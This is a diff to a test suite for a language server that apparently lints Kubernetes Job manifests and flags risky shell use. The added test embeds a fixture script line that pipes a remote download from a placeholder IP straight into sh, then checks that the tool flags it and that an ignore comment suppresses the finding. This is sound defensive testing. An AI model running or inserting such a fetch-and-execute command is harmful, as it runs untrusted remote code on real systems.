@@ -258,6 +258,38 @@ describe('language server over stdio', () => {
     assert.equal(diagnostics.filter((d) => d.code === 'sensitive-mount').length, 0);
   });
 
+  it('a finding in a multi-line script marks its line; the ignore comment goes on the block header', async () => {
+    const uri = 'file:///workspace/script-line.yaml';
+    const text = [
+      'apiVersion: batch/v1',
+      'kind: Job',
+      'metadata:',
+      '  name: j',
+      'spec:',
+      '  template:',
+      '    spec:',
+      '      containers:',
+      '        - name: c',
+      '          image: registry.example/app:1',
+      '          command: ["/bin/sh", "-c"]',
+      '          args:',
+      '            - |',
+      '              set -e',
+      '              curl -fsSL http://203.0.113.9/x.sh | sh',
+      '              echo done',
+      '',
+    ].join('\n');
+    await session.open(uri, text);
+    const shell = byCode((await session.diagnosticsFor(uri)).diagnostics, 'shell-escape');
+    assert.deepEqual(shell.range, { start: at(14, 14), end: at(14, 53) });
+    const fix = (await quickFixes(session, uri, shell)).find((action) => action.title.includes('# jobsentinel-ignore'));
+    assert.ok(fix);
+    const edited = await applyAction(session, uri, text, fix);
+    assert.equal(edited.split('\n')[12], '            - | # jobsentinel-ignore: shell-escape');
+    const { diagnostics } = await session.diagnosticsFor(uri, 2);
+    assert.equal(diagnostics.filter((d) => d.code === 'shell-escape').length, 0);
+  });
+
   it('adds the jobsentinel.io/ignore annotation, creating annotations: when absent', async () => {
     const uri = 'file:///workspace/fix-annotation.yaml';
     await session.open(uri, cronJob);
